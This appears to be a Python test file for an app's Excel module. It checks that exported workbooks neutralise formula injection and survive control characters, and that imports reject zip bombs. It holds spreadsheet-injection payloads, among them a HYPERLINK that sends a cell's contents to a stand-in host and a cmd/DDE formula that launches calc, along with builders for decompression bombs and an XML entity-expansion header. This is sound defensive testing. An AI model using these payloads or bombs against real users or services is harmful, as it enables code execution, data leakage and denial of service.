"""Hold under attack (issue 11), the files (workflow/xlsx.py).

Written: every .xlsx the app makes (the ranking export, live and of a frozen sheet; the task template; the
Biểu II.06a template) stores text that begins like a formula as text — read back with openpyxl it is a
string cell holding the same text, and no <f> element is in the sheet's XML — while numbers, negative ones
too, stay numbers; and a control character in a criterion label, a band, a unit name or a field name
(a saved scheme version keeps it forever) no longer makes the export fail: it answers 200 and opens.

Read: the task import and the Biểu II.06a import refuse a zip bomb — one row of a million cells, a part
whose declared size is huge, a zip lying about its sizes, sixty thousand rows, a DOCTYPE — with a clear
message, in well under a second, before openpyxl loads anything (its load_workbook is made to fail here).
"""
import functools
import io
import re
import struct
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from workflow import xlsx
from workflow.admin import task_import
from workflow.admin.task_import import WorkbookError, import_tasks
from workflow.extensions import db
from workflow.items import dossier_sheet
from workflow.models import ReportingPeriod, ScoringScheme, Unit
from workflow.ranking import schemes, sheets

from .ranking_data import Q3, period, plan, realistic_mix, user  # noqa: F401 (fixture)

pytestmark = pytest.mark.db

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "=1+1", "+1+2", "-3+4", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
CONTROLS = "\x0b\x01\x08\x1f\x0c"  # Word's line break, SOH, backspace, unit separator, form feed


def as_read(text):
    """What a reader finds where `text` was written: XML turns a carriage return into a line feed."""
    return text.replace("\r", "\n")


def sheet_xml(data):
    """The XML of every worksheet of an .xlsx, as bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def assert_no_formula(data):
    xml = sheet_xml(data)
    assert re.search(rb"<f[ >/]", xml) is None, "a formula element in the sheet"


def text_cells(data):
    """{value: cell} of every string cell of every sheet, read back with openpyxl."""
    book = load_workbook(io.BytesIO(data))
    return {c.value: c for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)}


# ---- the writer helper itself -------------------------------------------------------------------

def test_formula_text_is_written_as_text_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    xlsx.append(sheet, FORMULAS)
    xlsx.append(sheet, [-2.5, -3, 0, 7.25, "-2,5 điểm", "Bình thường"])
    for column, value in enumerate(FORMULAS, 1):
        xlsx.put(sheet, 3, column, value)
    sheet["A4"] = "=SUM(B1:B2)"  # written past the helper: save() still leaves no formula
    data = xlsx.save(book)

    assert_no_formula(data)
    back = load_workbook(io.BytesIO(data)).active
    for row in (1, 3):
        for column, value in enumerate(FORMULAS, 1):
            cell = back.cell(row, column)
            assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", as_read(value), True)
    assert [(c.data_type, c.value) for c in back[2][:6]] == [
        ("n", -2.5), ("n", -3), ("n", 0), ("n", 7.25), ("s", "-2,5 điểm"), ("s", "Bình thường")]
    assert back["E2"].quotePrefix and not back["F2"].quotePrefix  # text beginning with "-" is guarded too
    assert (back["A4"].data_type, back["A4"].value) == ("s", "=SUM(B1:B2)")


def test_control_characters_are_replaced_or_dropped_not_fatal():
    book = Workbook()
    xlsx.append(book.active, [f"Dòng một\x0bdòng hai\x00\x01\x02 hết\x0cx\ud800\uffff", "ok"])
    back = load_workbook(io.BytesIO(xlsx.save(book))).active
    assert back["A1"].value == "Dòng một\ndòng hai hết\nx"
    assert xlsx.text("x" * 40000) == "x" * 32766 + "…"


# ---- the ranking export ---------------------------------------------------------------------------

@pytest.fixture
def hostile(plan):
    """Scheme version 2 saved with a control character in every criterion label and formula-like band
    labels (stored as they are: a version saved before any form checked them), and a unit whose name
    holds control characters (NUL too, where the database can store it: not PostgreSQL)."""
    base = schemes.active_scheme(plan)
    criteria = [{"code": c.code, "label": f"{FORMULAS[i % 2]} {c.label}{CONTROLS}", "max_points": c.max_points,
                 "params": c.params, "kind": c.kind} for i, c in enumerate(base.criteria)]
    bands = [{"min_score": b.min_score, "label": f"{FORMULAS[i % len(FORMULAS)]}{CONTROLS}"}
             for i, b in enumerate(base.bands)]
    db.session.execute(update(ScoringScheme).where(ScoringScheme.id == base.id).values(active=False))
    hostile_version = schemes.build(plan.id, base.version + 1, {"criteria": criteria, "bands": bands})
    db.session.add(hostile_version)
    db.session.flush()  # the opened periods use it too, as after an approved proposal (ranking/governance.py)
    db.session.execute(update(ReportingPeriod).where(ReportingPeriod.plan_id == plan.id)
                       .values(scheme_id=hostile_version.id))
    nul = "\x00" if db.engine.dialect.name == "sqlite" else ""
    unit = db.session.scalar(select(Unit).where(Unit.code == "TTSNC"))
    unit.name = f"Trung tâm\x0bdịch vụ{nul}\x01 sự nghiệp\x1f"
    db.session.commit()
    realistic_mix()
    return plan


def exported(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    data = response.data
    load_workbook(io.BytesIO(data))  # the file opens
    return data


def check_ranking_file(data, plan_):
    """No formula; every label and name cleaned, as text; labels and bands beginning like a formula
    guarded with the quote prefix; the scores numbers."""
    assert_no_formula(data)
    cells = text_cells(data)
    assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", v) for v in cells)
    scheme = schemes.active_scheme(plan_)
    for criterion in scheme.criteria:  # the column titles begin with the labels
        title = next(v for v in cells if v.startswith(xlsx.text(criterion.label) + " ("))
        assert (cells[title].data_type, cells[title].quotePrefix) == ("s", True)
    bands = [cells[v] for v in {xlsx.text(b.label) for b in scheme.bands} if v in cells]
    assert bands, "no unit's band in the file"
    assert all((c.data_type, c.quotePrefix) == ("s", True) for c in bands)
    assert any(v.startswith("TTSNC – Trung tâm\ndịch vụ sự nghiệp") for v in cells)
    book = load_workbook(io.BytesIO(data)).active
    numbers = [c for row in book.iter_rows() for c in row if isinstance(c.value, (int, float))]
    assert numbers and all(c.data_type == "n" for c in numbers)  # the scores stay numbers


def test_the_ranking_exports_with_hostile_labels_and_names_answer_and_open(auth, client, hostile):
    auth.login("chutich")
    q3 = period(Q3).id
    for url in (f"/ranking/export.xlsx?period={q3}", "/ranking/export.xlsx?period=all"):
        check_ranking_file(exported(client, url), hostile)
    assert client.get(f"/ranking/export.pdf?period={q3}").status_code == 200


def test_a_frozen_sheet_with_hostile_labels_and_names_exports(auth, client, hostile):
    sheet = sheets.make(user("thamdinh"), period(Q3))
    auth.login("chutich")
    data = exported(client, f"/ranking/export.xlsx?period={sheet.period_id}&sheet={sheet.id}")
    check_ranking_file(data, hostile)
    assert client.get(f"/ranking/export.pdf?period={sheet.period_id}&sheet={sheet.id}").status_code == 200


# ---- the task template and the Biểu II.06a template -------------------------------------------------

def test_the_task_template_with_a_hostile_unit_name_answers_and_opens(auth, client):
    unit = db.session.scalar(select(Unit).where(Unit.code == "TTSNC"))
    unit.name = f"=HYPERLINK(\"http://example.invalid\"){CONTROLS}"
    db.session.commit()
    auth.login("admin")
    data = exported(client, "/admin/tasks/import/template.xlsx")
    assert_no_formula(data)
    cell = text_cells(data)['=HYPERLINK("http://example.invalid")\n\n']
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_the_dossier_template_with_hostile_field_names_opens_and_reads_back():
    fields = ["=1+1", f"Hộ tịch{CONTROLS}", "@SUM(C5:C9)", "-Đất đai"]
    data = dossier_sheet.template(fields)
    assert_no_formula(data)
    cells = text_cells(data)
    assert all(cells[v].data_type == "s" and cells[v].quotePrefix for v in ("=1+1", "@SUM(C5:C9)", "-Đất đai"))
    assert [r["field_name"] for r in dossier_sheet.read(io.BytesIO(data))] == [
        "=1+1", "Hộ tịch", "@SUM(C5:C9)", "-Đất đai"]


# ---- imports refuse zip bombs before loading them -------------------------------------------------

def _workbook_parts():
    book = Workbook()
    book.active.title = task_import.SHEET
    book.active.append(task_import.HEADINGS)
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


SHEET_PART = "xl/worksheets/sheet1.xml"


def with_sheet(sheet_data, head=b""):
    """A real .xlsx whose first sheet's <sheetData> is `sheet_data` (deflated: a bomb stays small)."""
    parts = _workbook_parts()
    xml = parts[SHEET_PART]
    start, end = xml.index(b"<sheetData"), xml.index(b"</sheetData>") + len(b"</sheetData>")
    xml = xml[:start] + b"<sheetData>" + sheet_data + b"</sheetData>" + xml[end:]
    if head:
        xml = head + xml[xml.index(b"<worksheet"):]
    parts[SHEET_PART] = re.sub(rb"<dimension [^>]*/>", b"", xml)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@functools.cache
def million_cells():
    """One row of 1,000,000 cells: 21 MB of sheet XML in a zip of about 56 KB."""
    return with_sheet(b'<row r="1">' + b'<c t="n"><v>1</v></c>' * 1_000_000 + b"</row>")


def declared_size(data, size):
    """The same zip, its central directory declaring `size` bytes for the sheet part."""
    data, name, at = bytearray(data), SHEET_PART.encode(), 0
    while True:
        at = data.index(b"PK\x01\x02", at)
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46: at + 46 + length] == name:
            struct.pack_into("<I", data, at + 24, size)
            return bytes(data)
        at += 4


BOMBS = {
    "a row of a million cells": (million_cells, xlsx.TOO_WIDE),
    "a sheet declaring 4 GB": (lambda: declared_size(with_sheet(b""), 0xFFFFFFFE), xlsx.TOO_LARGE),
    "a zip lying about its size": (lambda: declared_size(million_cells(), 1000), xlsx.NOT_XLSX),
    "sixty thousand rows": (lambda: with_sheet(b"".join(b'<row r="%d"/>' % n for n in range(1, 60_001))),
                            xlsx.TOO_MANY_ROWS),
    "a row far down": (lambda: with_sheet(b'<row r="1048576"><c><v>1</v></c></row>'), xlsx.TOO_MANY_ROWS),
    "entities": (lambda: with_sheet(b"", head=b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
                                               b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'), xlsx.NOT_XLSX),
}
TASK_MESSAGES = {**{r: m for r, m in task_import.REFUSALS.items()},
                 xlsx.TOO_WIDE: task_import.LIMITS.messages()[xlsx.TOO_WIDE]}


@pytest.fixture
def never_loaded(monkeypatch):
    def load_workbook(*_args, **_kwargs):
        raise AssertionError("openpyxl was asked to load the file")
    monkeypatch.setattr(xlsx, "load_workbook", load_workbook)


def refused_by_import(admin, plan_, data):
    with pytest.raises(WorkbookError) as refused:
        import_tasks(admin, plan_, io.BytesIO(data))
    return refused.value.message


@pytest.mark.parametrize("name", list(BOMBS))
def test_the_task_import_refuses_a_bomb_fast_without_loading_it(app, seeded, never_loaded, name):
    """Timed once as it runs, then again under tracemalloc for the memory it took (tracemalloc slows it)."""
    build, reason = BOMBS[name]
    data, admin = build(), user("admin")
    started = time.perf_counter()
    message = refused_by_import(admin, seeded, data)
    took = time.perf_counter() - started
    tracemalloc.start()
    refused_by_import(admin, seeded, data)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert message == TASK_MESSAGES[reason]
    assert took < 1.0, f"{name}: {took:.3f} s"
    assert peak < 16 * 1024 * 1024, f"{name}: {peak / 1e6:.1f} MB"
    print(f"\n{name}: {len(data):,} bytes refused in {took * 1000:.1f} ms, peak {peak / 1e6:.1f} MB")


@pytest.mark.parametrize("name", list(BOMBS))
def test_the_dossier_import_refuses_a_bomb_fast_without_loading_it(never_loaded, name):
    build, reason = BOMBS[name]
    data = build()
    started = time.perf_counter()
    with pytest.raises(dossier_sheet.SheetError) as refused:
        dossier_sheet.read(io.BytesIO(data))
    assert time.perf_counter() - started < 1.0
    expected = dossier_sheet.REFUSALS.get(reason) or dossier_sheet._limits().messages()[reason]
    assert refused.value.messages == [expected]


def test_cells_beyond_the_element_budget_are_refused_before_loading(app, seeded, never_loaded):
    """600 rows of 1,000 cells, each row within the limits: the file as a whole passes the element budget
    (what openpyxl would have to parse) and is refused. The costliest refusal there is, since the whole
    budget is read first: about half a second here, against 20–30 s of loading before."""
    data = with_sheet((b"<row>" + b"<c><v>1</v></c>" * 1000 + b"</row>") * 600)
    started = time.perf_counter()
    with pytest.raises(WorkbookError) as refused:
        import_tasks(user("admin"), seeded, io.BytesIO(data))
    took = time.perf_counter() - started
    assert refused.value.message == task_import.TOO_LARGE
    assert took < 3.0, f"{took:.3f} s"
    print(f"\nelement budget: {len(data):,} bytes refused in {took * 1000:.0f} ms")


def test_the_bomb_uploaded_is_answered_422_with_the_reason(auth, client):
    auth.login("admin")
    started = time.perf_counter()
    response = client.post("/admin/tasks/import", data={"file": (io.BytesIO(million_cells()), "bom.xlsx")},
                           content_type="multipart/form-data")
    assert time.perf_counter() - started < 2.0
    assert response.status_code == 422
    assert "Trang tính có dòng chứa quá 1.024 ô" in response.get_data(as_text=True)


def test_a_real_file_still_imports_through_the_checks(app, seeded):
    """The checks let an ordinary file through: the template as downloaded, with one task typed in."""
    from workflow.admin.task_template import template_workbook
    book = load_workbook(io.BytesIO(template_workbook(seeded)))
    book[task_import.SHEET]["A2"] = "1.x9"
    buffer = io.BytesIO()
    book.save(buffer)
    admin = user("admin")
    result = import_tasks(admin, seeded, io.BytesIO(buffer.getvalue()))
    assert (result.created, result.errors) == (1, [])
